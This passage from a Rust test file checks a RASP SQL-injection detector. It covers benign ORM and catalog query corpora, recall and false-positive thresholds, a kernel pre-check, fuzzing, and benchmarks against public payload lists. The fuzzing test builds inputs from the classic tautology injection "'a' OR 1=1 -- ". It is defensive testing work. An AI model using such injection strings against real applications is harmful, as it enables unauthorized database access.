        "SELECT n.nspname, pg_catalog.format_type(t.oid, NULL) FROM pg_catalog.pg_type t LEFT JOIN pg_catalog.pg_namespace n ON n.oid = t.typnamespace WHERE (t.typrelid = 0 OR (SELECT c.relkind = 'c' FROM pg_catalog.pg_class c WHERE c.oid = t.typrelid)) AND pg_catalog.pg_type_is_visible(t.oid) ORDER BY 1, 2;",
        "SELECT s.name, pg_catalog.current_setting(s.name) FROM pg_catalog.pg_settings s WHERE s.source <> 'default' AND s.setting IS DISTINCT FROM s.boot_val ORDER BY 1;",
        // Django's schema editor: operator classes after CREATE INDEX ... ON, exclusion
        // constraints, storage parameters.
        "CREATE INDEX \"shop_order_status_3a1b_like\" ON \"shop_order\" (\"status\" varchar_pattern_ops)",
        "ALTER TABLE \"booking\" ADD CONSTRAINT \"no_overlap\" EXCLUDE USING GIST (\"span\" WITH &&, \"room_id\" WITH =) WHERE (NOT \"cancelled\")",
        "CREATE INDEX \"doc_tags_gin\" ON \"doc\" USING gin (\"tags\") WITH (fastupdate = on)",
        "SET standard_conforming_strings TO on",
        "SELECT \"doc\".\"id\" FROM \"doc\" WHERE \"doc\".\"tags\" @> (SELECT U0.\"tags\" FROM \"tagset\" U0 LIMIT 1)::integer[]",
        "UPDATE \"kv\" SET \"data\" = delete(\"kv\".\"data\", CAST(ARRAY['k1'] AS text[])) WHERE (\"kv\".\"name\" = 'a')",
        // SQLAlchemy with psycopg2 inlining None and an empty list.
        "SELECT t.id FROM t WHERE (t.x NOT IN (NULL) OR (1 = 1)) ORDER BY t.id",
        "SELECT CASE WHEN (NULL IN (NULL) AND (1 != 1)) THEN true ELSE false END AS anon_1",
        "SELECT d.id FROM d WHERE CASE WHEN (NULL IS NOT NULL) THEN NULL ELSE d.day END = d.day",
        "SELECT anon_2.anon_1 FROM (SELECT (SELECT t.id FROM t LIMIT 1) AS anon_1 UNION SELECT (SELECT t.id FROM t LIMIT 1) AS anon_1) AS anon_2",
        "SELECT s.pid, EXTRACT(EPOCH FROM s.query_start) AS t, SUBSTRING(s.query FROM 1 FOR 40) FROM pg_catalog.pg_stat_activity s WHERE s.state <> 'idle'",
    ] {
        out.push(q.to_owned());
    }
    out
}

/// Recall on the injection corpus, false-positive rate on the benign one.
#[test]
fn corpora_meet_the_bar() {
    let analyzer = Analyzer::default();
    let injections = injection_corpus();
    let benign = benign_corpus();
    let mut missed: Vec<&str> = Vec::new();
    for (_, q) in &injections {
        if !analyzer.analyze(q, false).is_injection() {
            missed.push(q);
        }
    }
    let mut false_positives: Vec<String> = Vec::new();
    for q in &benign {
        let a = analyzer.analyze(q, false);
        if a.is_injection() {
            false_positives.push(format!("{q}\n    {:?}", a.findings));
        }
    }
    let recall = 1.0 - missed.len() as f64 / injections.len() as f64;
    let fp_rate = false_positives.len() as f64 / benign.len() as f64;
    println!(
        "sql corpus: {} injections, recall {:.4}; {} benign, false positives {} ({:.4}%)",
        injections.len(),
        recall,
        benign.len(),
        false_positives.len(),
        fp_rate * 100.0
    );
    for q in missed.iter().take(40) {
        println!("missed: {q}");
    }
    for q in false_positives.iter().take(20) {
        println!("false positive: {q}");
    }
    assert!(injections.len() > 1000 && benign.len() > 1000);
    assert!(recall >= 0.95, "recall {recall}");
    assert!(fp_rate <= 0.001, "false-positive rate {fp_rate}");
}

/// The kernel's hold pre-check (`rasp_common::hold::precheck`, the same code the uprobe
/// runs) on the corpora: which injections it would hold (the analyzer then decides), and
/// how many ordinary queries it would hold for nothing (each a ~0.1-1 ms pause, then
/// continued). Both printed; bounds asserted.
#[test]
fn hold_precheck_on_the_corpora() {
    use rasp_common::hold::precheck;
    let analyzer = Analyzer::default();
    let injections = injection_corpus();
    let benign = benign_corpus();
    // Only what the analyzer calls an injection matters: a hold is for a query a rule
    // would refuse.
    let detected: Vec<&str> = injections
        .iter()
        .map(|(_, q)| q.as_str())
        .filter(|q| analyzer.analyze(q, false).is_injection())
        .collect();
    let held = detected
        .iter()
        .filter(|q| precheck(q.as_bytes()) != 0)
        .count();
    let false_holds: Vec<&String> = benign
        .iter()
        .filter(|q| precheck(q.as_bytes()) != 0)
        .collect();
    let recall = held as f64 / detected.len() as f64;
    let false_hold = false_holds.len() as f64 / benign.len() as f64;
    println!(
        "hold pre-check: {held}/{} detected injections held ({:.4}); {}/{} benign held ({:.2}%)",
        detected.len(),
        recall,
        false_holds.len(),
        benign.len(),
        false_hold * 100.0
    );
    for q in detected
        .iter()
        .filter(|q| precheck(q.as_bytes()) == 0)
        .take(15)
    {
        println!("not held: {q}");
    }
    let mut by_tell = [0usize; 5];
    for q in &false_holds {
        let tells = precheck(q.as_bytes());
        for (bit, n) in by_tell.iter_mut().enumerate() {
            *n += usize::from(tells & (1 << bit) != 0);
        }
    }
    println!(
        "false holds by tell: stacked {}, comment {}, union {}, constant predicate {}, delay {}",
        by_tell[0], by_tell[1], by_tell[2], by_tell[3], by_tell[4]
    );
    for q in false_holds.iter().take(15) {
        println!("false hold [{:#x}]: {q}", precheck(q.as_bytes()));
    }
    // Measured: 0.963 held, 2.23% false holds (migration scripts' stacked statements,
    // reports' comments and UNION ALL). It was 0.976 and 7.82% while a contradiction after
    // AND/OR (Django's `AND (0 = 1)` for an empty IN list) was a tell and a word after
    // the literal (`AND ('x' IS NULL OR b = 'x')`) did not end the predicate.
    assert!(recall >= 0.95, "pre-check recall {recall}");
    assert!(false_hold <= 0.04, "false-hold rate {false_hold}");
}

/// A cached verdict is the verdict: queries of one shape get one verdict.
#[test]
fn verdicts_depend_only_on_the_shape() {
    let analyzer = Analyzer::default();
    let mut seen = std::collections::HashMap::new();
    let mut all: Vec<String> = benign_corpus();
    all.extend(injection_corpus().into_iter().map(|(_, q)| q));
    for q in &all {
        let lexed = tokenize(q, LexLimits::default());
        let shape = shape_of(&lexed.tokens);
        let verdict = analyzer.analyze(q, false).verdict();
        if let Some((other, v)) = seen.insert(shape.hash, (q.clone(), verdict)) {
            assert_eq!(
                v.kinds, verdict.kinds,
                "same shape, different findings:\n{other}\n{q}\n{}",
                shape.text
            );
        }
    }
}

/// Random bytes and mutated corpus queries: no panic, bounded time.
#[test]
fn hostile_input_is_bounded() {
    let analyzer = Analyzer::default();
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let alphabet: Vec<char> = "'\"$-/*()[];:,.=<>!|&E U&xb0123_aZéÀä€\n\\e"
        .chars()
        .collect();
    let started = Instant::now();
    for _ in 0..4000 {
        let len = (next() % 300) as usize;
        let s: String = (0..len)
            .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
            .collect();
        let _ = analyzer.analyze(&s, false);
    }
    let big = "SELECT (((((".repeat(5000) + &"'a' OR 1=1 -- ".repeat(2000);
    let a = analyzer.analyze(&big, false);
    assert!(a.capped);
    assert!(
        started.elapsed().as_secs() < 20,
        "took {:?}",
        started.elapsed()
    );
}

/// ns per query on the benign corpus (release: `cargo test --release -p rasp-agent --lib
/// detect::sql -- --ignored --nocapture`).
#[test]
#[ignore]
fn bench_ns_per_query() {
    let analyzer = Analyzer::default();
    let benign = benign_corpus();
    let bytes: usize = benign.iter().map(|q| q.len()).sum();
    for _ in 0..3 {
        let _ = benign
            .iter()
            .filter(|q| analyzer.analyze(q, false).is_injection())
            .count();
    }
    let rounds = 20;
    let started = Instant::now();
    let mut flagged = 0usize;
    for _ in 0..rounds {
        flagged += benign
            .iter()
            .filter(|q| analyzer.analyze(q, false).is_injection())
            .count();
    }
    let per = started.elapsed().as_nanos() as f64 / (rounds * benign.len()) as f64;
    let stage = |f: &dyn Fn(&str)| {
        let started = Instant::now();
        for _ in 0..rounds {
            for q in &benign {
                f(q);
            }
        }
        started.elapsed().as_nanos() as f64 / (rounds * benign.len()) as f64
    };
    let lex = stage(&|q| {
        std::hint::black_box(tokenize(q, LexLimits::default()));
    });
    let lex_shape = stage(&|q| {
        std::hint::black_box(shape_of(&tokenize(q, LexLimits::default()).tokens));
    });
    let lex_analyze = stage(&|q| {
        let lexed = tokenize(q, LexLimits::default());
        std::hint::black_box(super::analyze::analyze_tokens(&lexed.tokens, false));
    });
    println!("sql stages: lex {lex:.0} ns, lex+shape {lex_shape:.0} ns, lex+analysis {lex_analyze:.0} ns");
    let mut cache = super::shape::ShapeCache::new(8192);
    let started = Instant::now();
    for _ in 0..rounds {
        for q in &benign {
            let _ = analyzer.judge(&mut cache, q, false);
        }
    }
    let cached = started.elapsed().as_nanos() as f64 / (rounds * benign.len()) as f64;
    println!(
        "sql analyze: {per:.0} ns/query full analysis, {cached:.0} ns/query judge with shape cache \
         ({} queries, mean {} bytes, {flagged} flagged)",
        benign.len(),
        bytes / benign.len()
    );
}

/// Whether a value pasted into `template` (at its `{}`) left the query's structure as a
/// plain value would: read as one value (a word, a number, a string, a quoted name:
/// `Plain::Value`), or as one name where the plain value `x` or `"x"` is (a double-quoted
/// payload in an unquoted slot is a column name: `Plain::Name`). Anything else broke out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Plain {
    Value,
    Name,
    No,
}

pub(super) fn stays_plain(template: &str, query: &str) -> Plain {
    let lexed = tokenize(query, LexLimits::default());
    let shape = shape_of(&lexed.tokens).hash;
    let as_value = ["x", "1", "'x'", "\"x\""].iter().any(|v| {
        let q = template.replacen("{}", v, 1);
        shape_of(&tokenize(&q, LexLimits::default()).tokens).hash == shape
    });
    if as_value {
        return Plain::Value;
    }
    let one_name = ["x", "\"x\""].iter().any(|v| {
        let plain = template.replacen("{}", v, 1);
        let plain = tokenize(&plain, LexLimits::default());
        plain.tokens.len() == lexed.tokens.len()
            && plain
                .tokens
                .iter()
                .zip(&lexed.tokens)
                .filter(|(a, b)| a.text != b.text)
                .all(|(a, b)| {
                    matches!(a.kind, TokenKind::Ident | TokenKind::QuotedIdent)
                        && matches!(b.kind, TokenKind::Ident | TokenKind::QuotedIdent)
                        && !b.unterminated
                })
    });
    if one_name {
        Plain::Name
    } else {
        Plain::No
    }
}

/// The directory named by the environment variable `var` (what it must hold: `what`) and
/// its `*.ext` files, sorted: the input of an ignored measurement.
pub(super) fn files_in(var: &str, ext: &str, what: &str) -> (String, Vec<std::path::PathBuf>) {
    let Ok(dir) = std::env::var(var) else {
        panic!("set {var} to {what}");
    };
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{dir}: {e}"))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == ext))
        .collect();
    files.sort();
    (dir, files)
}

/// Public payload lists placed into the contexts, read from `RASP_SQLI_PAYLOADS` (a directory
/// of one-payload-per-line `*.txt` files; `benign-*.txt` files are benign values). A payload
/// that leaves the query's shape unchanged from a plain value stayed inside its literal: it
/// is no injection and is not counted.
#[test]
#[ignore]
fn public_payload_lists() {
    let (_, files) = files_in("RASP_SQLI_PAYLOADS", "txt", "a directory of payload lists");
    let analyzer = Analyzer::default();
    let (mut total_att, mut total_hit, mut total_benign, mut total_fp) =
        (0usize, 0usize, 0usize, 0usize);
    let mut misses: Vec<String> = Vec::new();
    let mut by_context = vec![(0usize, 0usize); CONTEXTS.len()];
    for path in files {
        let text = std::fs::read(&path).unwrap_or_default();
        let text = String::from_utf8_lossy(&text);
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let benign_file = name.starts_with("benign-");
        let (mut att, mut hit, mut noop) = (0usize, 0usize, 0usize);
        for line in text.lines() {
            let payload = line.trim_end_matches('\r');
            if payload.trim().is_empty() || payload.starts_with('#') {
                continue;
            }
            for (c, ctx) in CONTEXTS.iter().enumerate() {
                let query = ctx.template.replacen("{}", payload, 1);
                let plain = stays_plain(ctx.template, &query);
                let injected = analyzer.analyze(&query, false).is_injection();
                if benign_file {
                    if plain == Plain::Value {
                        total_benign += 1;
                        total_fp += usize::from(injected);
                        if injected {
                            misses.push(format!("[false positive {}] {query}", ctx.name));
                        }
                    }
                    continue;
                }
                if plain != Plain::No {
                    noop += 1;
                    continue;
                }
                att += 1;
                by_context[c].0 += 1;
                if injected {
                    hit += 1;
                    by_context[c].1 += 1;
                } else if misses.len() < 200_000 {
                    misses.push(format!("[{} {name}] {query}", ctx.name));
                }
            }
        }
        if !benign_file {
            println!(
                "{name}: {att} break-outs, recall {:.3} ({noop} placements stayed literal)",
                hit as f64 / att.max(1) as f64
            );
            total_att += att;
            total_hit += hit;
        }
    }
    for m in &misses {
        println!("missed: {m}");
    }
    for (ctx, (att, hit)) in CONTEXTS.iter().zip(&by_context) {
        println!(
            "context {}: {att} break-outs, recall {:.4}",
            ctx.name,
            *hit as f64 / (*att).max(1) as f64
        );
    }
    println!(
        "public lists: {total_att} break-outs, recall {:.4}; benign values {total_benign}, false positives {total_fp}",
        total_hit as f64 / total_att.max(1) as f64
    );
}

/// Benign SQL harvested from real clients, read from `RASP_SQL_BENIGN` (a directory of
/// `*.jsonl` files, one JSON string per line: a query as the server logged it, parameters
/// inlined). Prints the false-positive rate per file over all queries, distinct texts and
/// distinct shapes, and every distinct false positive with its findings.
#[test]
#[ignore]
fn harvested_benign_corpus() {
    let (_, files) = files_in(
        "RASP_SQL_BENIGN",
        "jsonl",
        "a directory of *.jsonl query files",
    );
    let analyzer = Analyzer::default();
    let (mut all, mut all_fp) = (0usize, 0usize);
    let mut distinct = std::collections::HashMap::<String, bool>::new();
    let mut shapes = std::collections::HashMap::<u64, bool>::new();
    for path in files {
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
        let (mut n, mut fp) = (0usize, 0usize);
        let mut file_distinct = std::collections::HashSet::new();
        let mut file_distinct_fp = 0usize;
        for (ln, line) in text.lines().enumerate() {
            let q: String = serde_json::from_str(line)
                .unwrap_or_else(|e| panic!("{}:{}: {e}", path.display(), ln + 1));
            let a = analyzer.analyze(&q, false);
            let bad = a.is_injection();
            n += 1;
            fp += usize::from(bad);
            if file_distinct.insert(q.clone()) {
                file_distinct_fp += usize::from(bad);
            }
            shapes.insert(a.shape.0, bad);
            if let std::collections::hash_map::Entry::Vacant(v) = distinct.entry(q.clone()) {
                v.insert(bad);
                if bad {
                    println!(
                        "false positive [{}]: {q}\n    {:?}",
                        path.display(),
                        a.findings
                    );
                }
            }
        }
        println!(
            "{}: {n} queries, {fp} flagged; {} distinct, {file_distinct_fp} flagged",
            path.file_name().unwrap_or_default().to_string_lossy(),
            file_distinct.len()
        );
        all += n;
        all_fp += fp;
    }
    let distinct_fp = distinct.values().filter(|b| **b).count();
    let shape_fp = shapes.values().filter(|b| **b).count();
    println!(
        "harvested benign: {all} queries, {all_fp} flagged ({:.3}%); {} distinct, {distinct_fp} flagged ({:.3}%); {} shapes, {shape_fp} flagged ({:.3}%)",
        all_fp as f64 * 100.0 / all.max(1) as f64,
        distinct.len(),
        distinct_fp as f64 * 100.0 / distinct.len().max(1) as f64,
        shapes.len(),
        shape_fp as f64 * 100.0 / shapes.len().max(1) as f64,
    );
    // What the kernel's hold pre-check would stop for nothing (each a ~0.1-1 ms pause).
    let held = distinct
        .keys()
        .filter(|q| rasp_common::hold::precheck(q.as_bytes()) != 0)
        .count();
    println!(
        "hold pre-check on the harvested benign: {held} of {} distinct held ({:.2}%)",
        distinct.len(),
        held as f64 * 100.0 / distinct.len().max(1) as f64
    );
}
